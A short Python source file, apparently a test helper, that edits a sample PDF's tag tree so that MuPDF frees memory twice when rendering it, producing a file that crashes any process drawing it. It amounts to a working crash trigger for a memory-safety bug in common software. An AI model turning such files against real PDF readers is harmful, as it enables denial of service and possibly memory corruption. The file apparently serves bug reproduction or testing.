"""A PDF whose text reads well and that ends every process that draws it, made from a sample."""

from __future__ import annotations

from pathlib import Path

import pymupdf

SAMPLE = Path(__file__).parents[1] / "samples" / "p01_grid_3.pdf"
CELL_OF_THE_TABLE = 104
"""The object that marks a cell up in the tree of tags."""


def write_deadly_pdf(path: Path) -> Path:
    """Take a cell's parent away in the tree of tags, over which MuPDF frees memory twice when it draws the page."""
    with pymupdf.open(SAMPLE) as document:
        parent = document.xref_get_key(CELL_OF_THE_TABLE, "P")[1]
        lost = document.xref_object(CELL_OF_THE_TABLE).replace(f"/P {parent}", "/P 0 0 R")
        document.update_object(CELL_OF_THE_TABLE, lost)
        document.save(path)
    return path
